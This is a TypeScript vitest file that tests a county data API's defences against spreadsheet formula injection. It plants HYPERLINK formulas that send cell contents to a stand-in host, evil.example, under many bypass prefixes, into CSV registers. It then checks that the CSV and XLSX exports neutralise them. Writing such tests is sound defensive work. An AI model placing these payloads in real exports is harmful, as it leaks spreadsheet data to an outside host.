import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { readFile, writeFile } from 'node:fs/promises'
import { openApiCounty, type ApiCounty } from '../support/api-county.ts'
import { readCsv } from '../support/csv-reader.ts'

const START = ['=', '+', '-', '@', '\t=', '\r=', '＝', ' =', '\u200b=', "'=", '|', '%']
const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"x")'
const PAYLOADS = START.map((start) => `${start}${FORMULA}`)

let county: ApiCounty
beforeAll(async () => {
  county = await openApiCounty({ pulls: 1 })
  for (const [name, columns] of [
    ['摸底花名册.csv', [1, 4, 5]],
    ['儿童档案.csv', [2, 3, 5, 7, 8, 9]],
    ['结对帮扶.csv', [1]],
    ['谈心走访记录.csv', [3, 5]],
    ['突发事件.csv', [0]],
  ] as const)
    await poison(name, columns)
  county.clock.now = new Date('2026-10-31T11:55:00+08:00')
  await county.pull()
})
afterAll(() => county.close())

/** Puts a payload into text columns of the rows of a register of 01. */
async function poison(name: string, columns: readonly number[]): Promise<void> {
  const path = `${county.exports}/01/${name}`
  const [head = [], ...rows] = readCsv(
    (await readFile(path, 'utf8')).replace(/^\ufeff/, '').replaceAll(/\r?\n/g, '\r\n'),
  )
  const changed = rows.map((row, at) => {
    const copy = [...row]
    const column = columns[at % columns.length] ?? 0
    copy[column] = PAYLOADS[at % PAYLOADS.length] ?? ''
    return copy
  })
  const quoted = [head, ...changed].map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
  await writeFile(path, `\ufeff${quoted.join('\r\n')}\r\n`)
}

const CSV = [
  '/api/subjects?duty=file&unit=01',
  '/api/subjects?duty=talk&unit=01',
  '/api/incidents?unit=01',
  '/api/rejects?unit=01',
  '/api/runs?unit=01',
  '/api/summary?unit=01',
  '/api/duties',
]

describe('a text that a spreadsheet would run', () => {
  it('is in what was pulled', async () => {
    const { rows } = (await (await county.api.request('/api/rejects?unit=01&limit=1000')).json()) as { rows: unknown[] }
    expect(JSON.stringify(rows)).toContain('HYPERLINK')
  })

  it.each(CSV)('is a text in the CSV of %s', async (path) => {
    const response = await county.api.request(`${path}${path.includes('?') ? '&' : '?'}format=csv`)
    expect(response.status).toBe(200)
    for (const row of readCsv((await response.text()).replace(/^\ufeff/, '')))
      for (const cell of row) if (!/^-?[\d.]+$/.test(cell)) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠\t\r]/)
  })

  it.each([
    '/api/todo?unit=01&format=xlsx',
    '/api/send-back?unit=01&file=%E6%91%B8%E5%BA%95%E8%8A%B1%E5%90%8D%E5%86%8C.csv',
    '/api/send-back?unit=01&file=%E5%84%BF%E7%AB%A5%E6%A1%A3%E6%A1%88.csv',
  ])('is a text in the workbook of %s, and no cell of it is a formula or a link elsewhere', async (path) => {
    const response = await county.api.request(path)
    expect(response.status).toBe(200)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await response.arrayBuffer())
    let cells = 0
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++
          expect([cell.address, cell.formula, cell.type === ExcelJS.ValueType.Formula]).toEqual([
            cell.address,
            undefined,
            false,
          ])
          // The list of faults leads to their cells, within the workbook.
          if (cell.hyperlink !== undefined) expect(cell.hyperlink).toMatch(/^#'[^'!]*'![A-Z]+\d+$/)
        }),
      ),
    )
    expect(cells).toBeGreaterThan(10)
  })
})
